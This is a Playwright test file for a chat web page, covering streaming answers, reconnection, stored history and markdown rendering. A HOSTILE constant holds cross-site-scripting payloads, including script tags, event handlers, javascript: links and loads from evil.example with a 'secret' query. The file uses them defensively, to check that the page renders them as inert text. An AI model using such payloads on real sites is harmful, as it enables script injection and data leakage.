"""The chat page in a browser, against the whole platform. Run by `make pages`."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, Route, WebSocketRoute, expect

from pages.conftest import Platform

LAST = ".turn:last-of-type"


def say(page: Page, text: str) -> None:
    page.fill("#message", text)
    page.press("#message", "Enter")


def wait_for(page: Page, phase: str, timeout: float = 60_000) -> None:
    page.wait_for_selector(f'{LAST}[data-phase="{phase}"]', timeout=timeout)


def until(page: Page, condition: str, seconds: float = 30) -> None:
    """Playwright's own way of waiting evaluates text in the page, which the page's policy forbids."""
    deadline = time.monotonic() + seconds
    while not page.evaluate(condition):
        assert time.monotonic() < deadline, condition
        page.wait_for_timeout(20)


def wait_for_text(page: Page, length: int) -> None:
    """Until the last answer is at least so long."""
    until(page, f"[...document.querySelectorAll('.answer')].at(-1)?.textContent.length >= {length}")


def answers(page: Page) -> list[str]:
    """The answers that are plain paragraphs, as they were before they became paragraphs."""
    return ["\n\n".join(answer.locator("p").all_text_contents()) for answer in page.locator(".answer").all()]


def questions(page: Page) -> list[str]:
    # The first node is for ears only: "You: ".
    return page.locator(".question").evaluate_all("found => found.map((one) => one.lastChild.textContent)")


def kept(page: Page) -> dict[str, Any]:
    """What the page remembers for a reload."""
    found: dict[str, Any] = json.loads(page.evaluate("Object.values(localStorage)[0] ?? 'null'"))
    return found


def stored(platform: Platform, page: Page, role: str = "assistant") -> list[str]:
    """What the platform's messages say."""
    return [item["text"] for item in platform.messages(kept(page)["id"]) if item["role"] == role]


def test_an_answer_grows_while_it_is_spoken(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("demo", greeting="Hello."))
    expect(page.locator(".greeting").first).to_have_text("Hello.")
    expect(page.locator("h1").first).to_have_text("Demo")
    say(page, "Who are you?")
    seen = [""]
    while not page.locator(f'{LAST}[data-phase="done"]').count():
        text = answers(page)[-1]
        if text != seen[-1]:
            seen.append(text)
    assert len(seen) > 10
    # Every look shows a beginning of the whole; the end of a paragraph may still lack its line break.
    final = answers(page)[-1]
    assert all(final.startswith(text) for text in seen)
    assert [final] == stored(platform, page)
    assert questions(page) == ["Who are you?"]
    expect(page.locator("#announcer")).to_contain_text(final.split("\n")[0])
    expect(page.locator("#message")).to_be_focused()


def test_enter_sends_and_shift_enter_does_not(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("echo"))
    expect(page.locator("#send")).to_be_disabled()
    page.press("#message", "Enter")
    page.type("#message", "one")
    page.press("#message", "Shift+Enter")
    page.type("#message", "two")
    # While an input method composes a word, Enter belongs to it.
    page.evaluate(
        """document.getElementById("message").dispatchEvent(
            new KeyboardEvent("keydown", {key: "Enter", isComposing: true, bubbles: true}))"""
    )
    assert not page.locator(".turn").count()
    page.click("#send")
    wait_for(page, "done")
    assert questions(page) == ["one\ntwo"]
    assert answers(page) == stored(platform, page) == ["one\ntwo"]


def test_stop_keeps_what_was_said(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("long"))
    say(page, "Go on")
    wait_for_text(page, 400)
    expect(page.locator("#send")).to_be_hidden()
    page.click("#stop")
    wait_for(page, "stopped")
    expect(page.locator(f"{LAST} .note")).to_contain_text("Stopped")
    expect(page.locator("#stop")).to_be_hidden()
    [text] = stored(platform, page)
    assert 400 <= len(text) < 5000
    assert answers(page) == [text]
    page.reload()
    wait_for(page, "stopped")
    assert answers(page) == [text]
    # And the conversation goes on.
    say(page, "Once more")
    wait_for_text(page, 100)
    page.click("#stop")
    wait_for(page, "stopped")
    assert answers(page) == stored(platform, page)


def test_reloads_in_the_middle_of_an_answer_change_nothing(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("long"))
    say(page, "Go on")
    for length in (300, 1200, 2400):
        wait_for_text(page, length)
        page.reload()
    wait_for(page, "done")
    assert answers(page) == stored(platform, page)
    assert questions(page) == ["Go on"]
    page.reload()
    wait_for(page, "done")
    assert answers(page) == stored(platform, page)


def test_a_reload_right_after_sending_changes_nothing(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("demo"))
    with page.expect_response("**/chat/message"):
        say(page, "Quick")
    until(page, "localStorage.length > 0")
    page.reload()
    wait_for(page, "done")
    assert answers(page) == stored(platform, page)
    assert questions(page) == ["Quick"]


def test_two_tabs_show_the_same(platform: Platform, context: BrowserContext, page: Page) -> None:
    path = platform.agent("demo")
    page.goto(path)
    say(page, "From the first")
    wait_for_text(page, 50)
    other = context.new_page()
    other.goto(path)
    for tab in (page, other):
        wait_for(tab, "done")
        assert answers(tab) == stored(platform, page)
        assert questions(tab) == ["From the first"]
    say(other, "From the second")
    for tab in (other, page):
        until(tab, "document.querySelectorAll('.turn').length === 2")
        wait_for(tab, "done")
        assert answers(tab) == stored(platform, page)
        assert questions(tab) == ["From the first", "From the second"]
    # One of them leaves; the other keeps what it shows.
    page.click("#begin")
    assert not page.locator(".turn").count()
    assert len(answers(other)) == 2


def test_an_empty_tab_joins_what_another_one_began(
    platform: Platform, context: BrowserContext, page: Page
) -> None:
    path = platform.agent("demo")
    other = context.new_page()
    other.goto(path)
    page.goto(path)
    say(page, "Hello")
    for tab in (page, other):
        wait_for(tab, "done")
    assert answers(page) == answers(other) == stored(platform, page)


def test_an_answer_outlives_being_offline(platform: Platform, context: BrowserContext, page: Page) -> None:
    page.goto(platform.agent("long"))
    say(page, "Go on")
    wait_for_text(page, 300)
    context.set_offline(True)
    page.wait_for_timeout(2000)
    before = len(answers(page)[0])
    context.set_offline(False)
    wait_for_text(page, before + 200)
    wait_for(page, "done")
    assert answers(page) == stored(platform, page)


class Wire:
    """A TCP way to the platform that can be cut."""

    def __init__(self, target: tuple[str, int]) -> None:
        self._target = target
        self._open: set[socket.socket] = set()
        self._whole = True
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.base_url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                near, _ = self._listener.accept()
                if not self._whole:
                    near.close()
                    continue
                far = socket.create_connection(self._target)
                self._open |= {near, far}
                for source, sink in ((near, far), (far, near)):
                    threading.Thread(target=self._pump, args=(source, sink), daemon=True).start()

    def _pump(self, source: socket.socket, sink: socket.socket) -> None:
        with suppress(OSError):
            while data := source.recv(65536):
                sink.sendall(data)
        self._end(source, sink)

    def _end(self, *ends: socket.socket) -> None:
        for end in ends:
            self._open.discard(end)
            with suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)
            end.close()

    def cut(self) -> None:
        self._whole = False
        self._end(*self._open)

    def mend(self) -> None:
        self._whole = True

    def close(self) -> None:
        self.cut()
        self._end(self._listener)


@pytest.fixture
def wire(platform: Platform) -> Iterator[Wire]:
    address = urlsplit(platform.base_url)
    wire = Wire((address.hostname or "", address.port or 0))
    yield wire
    wire.close()


def test_a_broken_connection_is_taken_up_again(
    platform: Platform, wire: Wire, new_context: Callable[..., BrowserContext]
) -> None:
    page = new_context(base_url=wire.base_url).new_page()
    page.goto(platform.agent("long"))
    say(page, "Go on")
    for length in (200, 800, 1600):
        wait_for_text(page, length)
        wire.cut()
        page.wait_for_timeout(300)
        wire.mend()
    wait_for_text(page, 2000)
    wire.cut()
    expect(page.locator("#connection")).to_be_visible()
    wire.mend()
    wait_for(page, "done")
    expect(page.locator("#connection")).to_be_hidden()
    assert answers(page) == stored(platform, page)


def test_what_ends_while_nobody_listens_is_there_afterwards(
    platform: Platform, wire: Wire, new_context: Callable[..., BrowserContext]
) -> None:
    page = new_context(base_url=wire.base_url).new_page()
    page.goto(platform.agent("demo"))
    say(page, "Hello")
    wait_for_text(page, 20)
    wire.cut()
    page.wait_for_timeout(3000)
    wire.mend()
    wait_for(page, "done")
    assert answers(page) == stored(platform, page)


def test_a_message_that_cannot_be_sent_can_be_sent_again(
    platform: Platform, wire: Wire, new_context: Callable[..., BrowserContext]
) -> None:
    page = new_context(base_url=wire.base_url).new_page()
    page.goto(platform.agent("echo"))
    wire.cut()
    say(page, "Hello?")
    wait_for(page, "unsent")
    expect(page.locator(f"{LAST} .note")).to_contain_text("cannot be reached")
    wire.mend()
    page.click(f"{LAST} .note button")
    wait_for(page, "done")
    assert questions(page) == answers(page) == ["Hello?"]


def test_a_message_whose_acceptance_was_lost_is_found_again(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("echo"))
    say(page, "One")
    wait_for(page, "done")

    def lose_the_answer(route: Route) -> None:
        route.fetch()
        route.abort()

    page.route("**/chat/message", lose_the_answer)
    say(page, "Two")
    wait_for(page, "done")
    until(page, "document.querySelectorAll('[data-phase=done]').length === 2")
    assert questions(page) == answers(page) == stored(platform, page) == ["One", "Two"]


@pytest.mark.parametrize(
    ("status", "headers", "words"),
    [
        (429, {"Retry-After": "7"}, "in 7 s"),
        (503, {"Retry-After": "5"}, "in a moment"),
        (502, {}, "in a moment"),
    ],
)
def test_refusals_are_explained(
    platform: Platform, page: Page, status: int, headers: dict[str, str], words: str
) -> None:
    page.goto(platform.agent("echo"))
    page.route("**/chat/message", lambda route: route.fulfill(status=status, headers=headers, body="no"))
    say(page, "Hello?")
    wait_for(page, "unsent")
    expect(page.locator(f"{LAST} .note")).to_contain_text(words)
    page.unroute("**/chat/message")
    page.click(f"{LAST} .note button")
    wait_for(page, "done")
    assert questions(page) == answers(page) == ["Hello?"]


def test_an_answer_that_fails_says_so_and_can_be_asked_for_again(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("some-model", provider="openai"))  # no key: it cannot answer
    say(page, "Hello?")
    wait_for(page, "failed")
    note = page.locator(f"{LAST} .note").inner_text()
    page.reload()
    wait_for(page, "failed")
    assert page.locator(f"{LAST} .note").inner_text() == note
    page.click(f"{LAST} .note button")
    until(page, "document.querySelectorAll('[data-phase=failed]').length === 2")
    assert questions(page) == ["Hello?", "Hello?"]


@pytest.mark.parametrize("where", ["at the start", "in the middle"])
def test_a_conversation_that_is_closed_to_us_makes_room_for_a_new_one(
    platform: Platform, page: Page, where: str
) -> None:
    path = platform.agent("echo")
    page.goto(path)
    say(page, "One")
    wait_for(page, "done")
    first = kept(page)
    page.goto("/health")  # the page itself may still write what it keeps
    page.evaluate(
        "([id, token, after]) => localStorage.setItem(Object.keys(localStorage)[0],"
        " JSON.stringify({id, token: token + 'x', after}))",
        [first["id"], first["token"], first["after"]],
    )
    if where == "in the middle":
        # The history is shown; then the socket refuses.
        page.route(
            "**/messages?*",
            lambda route: route.continue_(headers={**route.request.headers, "nooble-resume": first["token"]}),
        )
    page.goto(path)
    notice = page.locator("#notice" if where == "at the start" else ".divider")
    expect(notice).to_contain_text("begins a new one")
    assert kept(page) is None
    say(page, "Two")
    wait_for(page, "done")
    assert kept(page)["id"] != first["id"]
    assert stored(platform, page) == ["Two"]


def test_a_new_conversation_begins_empty_and_stops_the_old_one(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("long"))
    say(page, "Go on")
    wait_for_text(page, 100)
    old = kept(page)["id"]
    with page.expect_response("**/chat/cancel/*"):
        page.click("#begin")
    assert not page.locator(".turn").count()
    page.reload()
    assert not page.locator(".turn").count()
    say(page, "Anew")
    wait_for_text(page, 100)
    assert kept(page)["id"] != old
    page.click("#stop")
    wait_for(page, "stopped")


def test_a_piece_that_is_missing_is_heard_again(platform: Platform, page: Page) -> None:
    lost = []

    def lose_one(ws: WebSocketRoute) -> None:
        server = ws.connect_to_server()

        def pass_on(message: str | bytes) -> None:
            event = json.loads(message)
            if not lost and event["event"] == "agent_response_token" and event["data"]["offset"] > 50:
                lost.append(event["seq"])
            else:
                ws.send(message)

        server.on_message(pass_on)

    page.route_web_socket("**/ws/**", lose_one)
    page.goto(platform.agent("demo"))
    say(page, "Hello")
    wait_for(page, "done")
    assert lost
    assert answers(page) == stored(platform, page)


def event(seq: int, name: str, task_id: str, **data: Any) -> str:
    return json.dumps({"event": name, "seq": seq, "task_id": task_id, "data": data, "unknown": 1})


def hello(last_seq: int) -> str:
    data = {"session_id": "s", "last_seq": last_seq, "resume_token": "new", "unknown": 1}
    return json.dumps({"event": "connection_established", "data": data})


def test_a_new_attempt_forgets_the_one_before(platform: Platform, page: Page) -> None:
    sockets: list[WebSocketRoute] = []
    page.route_web_socket("**/ws/**", lambda ws: sockets.append(ws))
    page.goto(platform.agent("long"))
    say(page, "Hello")
    until(page, "localStorage.length > 0")
    wait_for(page, "waiting")
    ws = sockets[0]
    task_id = platform.messages(kept(page)["id"])[0]["task_id"]
    ws.send(hello(4))
    ws.send(event(1, "agent_execution_started", task_id, attempt=1))
    ws.send(event(2, "agent_response_token", task_id, token="wrong 😀", offset=0, is_final=False))
    ws.send(event(2, "agent_response_token", task_id, token=" twice", offset=7, is_final=False))
    expect(page.locator(".answer")).to_have_text("wrong 😀")
    ws.send(json.dumps({"event": "ping"}))
    ws.send(event(3, "something_new", task_id, more=1))
    ws.send(event(4, "agent_execution_started", task_id, attempt=2))
    ws.send(event(5, "agent_response_token", task_id, token="right 😀", offset=0, is_final=False))
    ws.send(event(6, "agent_response_token", task_id, token=" on", offset=7, is_final=False))
    expect(page.locator(".answer")).to_have_text("right 😀 on")
    assert kept(page)["after"] == 3
    ws.send(event(7, "agent_execution_completed", task_id, text="right 😀 on.", finish_reason="length"))
    expect(page.locator(".answer")).to_have_text("right 😀 on.")
    expect(page.locator(f"{LAST} .note")).to_contain_text("cut short")
    assert kept(page)["after"] == 7
    assert kept(page)["token"] == "new"


def test_a_snapshot_replaces_the_history_and_the_answer_goes_on(platform: Platform, page: Page) -> None:
    sockets: list[WebSocketRoute] = []
    page.route_web_socket("**/ws/**", lambda ws: sockets.append(ws))
    page.goto(platform.agent("long"))
    say(page, "Hello")
    wait_for(page, "waiting")
    until(page, "localStorage.length > 0")
    task_id = platform.messages(kept(page)["id"])[0]["task_id"]
    sockets[0].send(hello(900))
    messages = [
        {"id": 1, "role": "user", "text": "Before", "task_id": "a", "finish_reason": ""},
        {"id": 2, "role": "assistant", "text": "Answered.", "task_id": "a", "finish_reason": "stop"},
        {"id": 3, "role": "user", "text": "Hello", "task_id": task_id, "finish_reason": ""},
    ]
    running = {"task_id": task_id, "attempt": 1, "text": "😀 so far"}
    data = {"messages": messages, "running": running, "last_seq": 900}
    sockets[0].send(json.dumps({"event": "snapshot", "data": data}))
    sockets[0].send(event(901, "agent_response_token", task_id, token=", so good", offset=8, is_final=False))
    expect(page.locator(".answer").last).to_have_text("😀 so far, so good")
    assert questions(page) == ["Before", "Hello"]
    assert answers(page)[0] == "Answered."


def test_an_attempt_that_is_given_up_is_forgotten(platform: Platform, page: Page) -> None:
    sockets: list[WebSocketRoute] = []
    page.route_web_socket("**/ws/**", lambda ws: sockets.append(ws))
    page.goto(platform.agent("long"))
    say(page, "Hello")
    until(page, "localStorage.length > 0")
    wait_for(page, "waiting")
    ws = sockets[0]
    task_id = platform.messages(kept(page)["id"])[0]["task_id"]
    ws.send(hello(0))
    ws.send(event(1, "agent_execution_started", task_id, attempt=1))
    ws.send(event(2, "agent_response_token", task_id, token="wrong", offset=0, is_final=False))
    expect(page.locator(".answer")).to_have_text("wrong")
    ws.send(event(3, "task_status_update", task_id, status="queued", details={"attempt": 2}))
    expect(page.locator(".answer")).to_have_text("")
    wait_for(page, "waiting")
    ws.send(event(4, "agent_execution_started", task_id, attempt=2))
    ws.send(event(5, "agent_response_token", task_id, token="right", offset=0, is_final=False))
    expect(page.locator(".answer")).to_have_text("right")


@pytest.mark.parametrize("code", [None, 1012, 1013, 4408, 4409, 4429])
def test_a_page_that_is_sent_away_comes_back_to_where_it_was(
    platform: Platform, page: Page, code: int | None
) -> None:
    """`reconnect` alone, or a close code: the page comes back after its cursor, and says nothing of it."""
    sockets: list[WebSocketRoute] = []
    page.route_web_socket("**/ws/**", lambda ws: sockets.append(ws))
    page.goto(platform.agent("long"))
    say(page, "Hello")
    until(page, "localStorage.length > 0")
    wait_for(page, "waiting")
    task_id = platform.messages(kept(page)["id"])[0]["task_id"]
    sockets[0].send(hello(0))
    sockets[0].send(event(1, "agent_execution_started", task_id, attempt=1))
    sockets[0].send(event(2, "agent_response_token", task_id, token="one", offset=0, is_final=False))
    expect(page.locator(".answer")).to_have_text("one")
    if code is None:
        sockets[0].send(json.dumps({"event": "reconnect"}))
    else:
        error = {"type": "Anything", "message": "nothing to read", "details": {}}
        sockets[0].send(json.dumps({"event": "error", "data": error}))
        sockets[0].close(code=code)
    deadline = time.monotonic() + 20
    while len(sockets) == 1:
        assert time.monotonic() < deadline
        page.wait_for_timeout(20)
    assert sockets[1].url.endswith("?after=2")
    sockets[1].send(hello(3))
    sockets[1].send(event(3, "agent_response_token", task_id, token=" two", offset=3, is_final=False))
    expect(page.locator(".answer")).to_have_text("one two")
    expect(page.locator("#connection")).to_be_hidden()
    assert "nothing to read" not in page.locator("body").inner_text()


def test_a_snapshot_keeps_what_is_older_than_it(platform: Platform, page: Page) -> None:
    sockets: list[WebSocketRoute] = []
    page.goto(platform.agent("echo"))
    say(page, "Old")
    wait_for(page, "done")
    page.route_web_socket("**/ws/**", lambda ws: sockets.append(ws))
    page.reload()
    until(page, "document.querySelectorAll('.turn').length === 1")
    deadline = time.monotonic() + 20
    while not sockets:
        assert time.monotonic() < deadline
        page.wait_for_timeout(20)
    messages = [
        {"id": 8, "role": "user", "text": "New", "task_id": "b", "finish_reason": ""},
        {"id": 9, "role": "assistant", "text": "Answered.", "task_id": "b", "finish_reason": "stop"},
    ]
    data = {"messages": messages, "running": None, "last_seq": 900}
    sockets[0].send(hello(900))
    sockets[0].send(json.dumps({"event": "snapshot", "data": data}))
    until(page, "document.querySelectorAll('.turn').length === 2")
    assert questions(page) == ["Old", "New"]
    assert answers(page) == ["Old", "Answered."]


def test_a_message_to_a_busy_session_is_not_sent_and_the_session_goes_on(
    platform: Platform, page: Page
) -> None:
    page.goto(platform.agent("echo"))
    say(page, "First")
    wait_for(page, "done")
    before = kept(page)
    error = {"type": "SessionBusy", "message": "The session is busy.", "details": {}}

    def refuse(route: Route) -> None:
        route.fulfill(status=409, json={"success": False, "error": error})

    page.route("**/chat/message", refuse)
    say(page, "Second")
    wait_for(page, "unsent")
    expect(page.locator(f"{LAST} .note")).to_contain_text("The session is busy.")
    assert kept(page)["id"] == before["id"]
    page.unroute("**/chat/message")
    page.locator(LAST).get_by_role("button", name="Try again").click()
    wait_for(page, "done")
    assert questions(page) == ["First", "Second"]
    assert kept(page)["id"] == before["id"]


def test_a_reader_who_scrolls_up_is_left_in_peace(
    platform: Platform, new_context: Callable[..., BrowserContext]
) -> None:
    page = new_context(viewport={"width": 360, "height": 500}).new_page()
    page.goto(platform.agent("long"))
    say(page, "Go on")
    box = page.locator("#scroller")
    at_end = "(box) => box.scrollHeight - box.scrollTop - box.clientHeight < 3"
    wait_for_text(page, 1500)
    assert box.evaluate(at_end)
    box.hover()
    page.mouse.wheel(0, -300)
    expect(page.locator("#latest")).to_be_visible()
    top = box.evaluate("(box) => box.scrollTop")
    wait_for_text(page, 2500)
    assert box.evaluate("(box) => box.scrollTop") == top
    page.click("#latest")
    wait_for_text(page, 2800)
    assert box.evaluate(at_end)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.click("#stop")
    wait_for(page, "stopped")


HOSTILE = """<script>window.hit = 1</script>
<img src="https://evil.example/a.png" onerror="window.hit = 1"><svg onload="window.hit = 1"></svg>
<iframe srcdoc="<script>parent.hit = 1</script>"></iframe><style>@import "https://evil.example/b.css"</style>
<a href="javascript:window.hit = 1">x</a> <base href="https://evil.example/">
<meta http-equiv=refresh content=0>
[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](data:text/html,<script>window.hit=1</script>)
[d](vbscript:x) [e](//evil.example) [f](\x01javascript:window.hit=1) [g](java&#115;cript:window.hit=1)
![h](https://evil.example/c.png?q=secret) ![i](javascript:window.hit=1) <https://evil.example/d>
[j](https://evil.example/e"onmouseover="window.hit=1) **<b onclick=window.hit=1>k</b>** `<img src=x>`
{{7*7}} ${window.hit=1} &lt;script&gt; </p></div></article></body></html> <!-- ]]> %s {0.__class__}

```html
<script>window.hit = 1</script></code></pre><img src=x onerror=window.hit=1>
```

- <details ontoggle="window.hit = 1" open>
  1. [l](https://example.com/ok "title\\" onclick=x")
# <object data="https://evil.example/f"></object>
> <video src="https://evil.example/g" autoplay></video>"""


def test_hostile_text_is_text(platform: Platform, page: Page) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.goto(platform.agent("echo", greeting=HOSTILE.replace("\x01", "")[:2000]))
    for text in (HOSTILE, "<!--", "<script", "<plaintext>", "`" * 999, "**" * 999, "[" * 999, "- " * 99):
        say(page, text)
        wait_for(page, "done")
    assert stored(platform, page)[0] == HOSTILE
    for _ in range(2):
        page.wait_for_timeout(300)
        assert page.evaluate("window.hit") is None
        allowed = {"P", "A", "STRONG", "EM", "CODE", "PRE", "UL", "OL", "LI", "H2", "H3", "HR", "BLOCKQUOTE"}
        tags = page.evaluate("[...document.querySelectorAll('.answer *')].map((node) => node.tagName)")
        assert set(tags) <= allowed
        for link in page.locator(".answer a").all():
            assert urlsplit(link.evaluate("(link) => link.href")).scheme in ("http", "https", "mailto")
            assert link.get_attribute("rel") == "noopener noreferrer"
            assert link.get_attribute("target") == "_blank"
            names = set(link.evaluate("(link) => link.getAttributeNames()"))
            assert names == {"href", "title", "target", "rel"}
        page.reload()
        wait_for(page, "done")
    home = urlsplit(platform.base_url).netloc
    assert {urlsplit(url).netloc for url in asked} == {home}


def test_the_page_itself_could_not_run_anything_foreign(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("echo"))
    assert page.evaluate(
        """() => {
            try { document.body.innerHTML = "<img src=x onerror=window.hit=1>"; return false }
            catch (error) { return error instanceof TypeError }
        }"""
    )
    assert page.evaluate("fetch('https://evil.example/').then(() => false, () => true)")


MARKDOWN = """# Title **bold**

Plain *text* with `code **not bold**`, **bold `code` *inner***, a_b_c and 2 * 3 * 4 \\*kept\\*.
A second line, https://example.com/a_(b)?c=d. And [a link](https://example.com/x_(y)), (https://example.com).

1. one
   - deeper
     1. deepest
   - again
2. two
   goes on
* other kind

10) ten
Text right after, #not a heading
## Second
> quote
> goes on
---
~~~
``` not the end
~~~
```python
    indented = "```"

after_blank = 1
```
Last -
- end"""


def test_an_answer_looks_the_same_grown_or_whole(platform: Platform, page: Page) -> None:
    page.goto(platform.agent("echo"))
    for text in (MARKDOWN, MARKDOWN + "\n\n```\nnever closed", "a\n-", "-", "```", "1.", "**a", "\n\n x"):
        say(page, text)
        wait_for(page, "done")
    page.wait_for_timeout(200)
    grown = page.locator(".answer").evaluate_all("found => found.map((one) => one.innerHTML)")
    page.reload()
    wait_for(page, "done")
    page.wait_for_timeout(200)
    whole = page.locator(".answer").evaluate_all("found => found.map((one) => one.innerHTML)")
    assert grown == whole
    first = page.locator(".answer").first
    assert first.locator("h2").all_text_contents() == ["Title bold", "Second"]
    assert first.locator("ol ul ol li").all_text_contents() == ["deepest"]
    assert first.locator("pre").all_text_contents() == [
        "``` not the end",
        '    indented = "```"\n\nafter_blank = 1',
    ]
    assert first.locator("a").evaluate_all("found => found.map((one) => one.href)") == [
        "https://example.com/a_(b)?c=d",
        "https://example.com/x_(y)",
        "https://example.com/",
    ]
    assert "a_b_c and 2 * 3 * 4 *kept*." in first.inner_text()
    assert first.locator("ol[start='10']").count() == 1


def test_spanish_readers_are_spoken_to_in_spanish(
    platform: Platform, new_context: Callable[..., BrowserContext]
) -> None:
    page = new_context(locale="es-ES").new_page()
    page.goto(platform.agent("echo"))
    assert page.get_attribute("html", "lang") == "es"
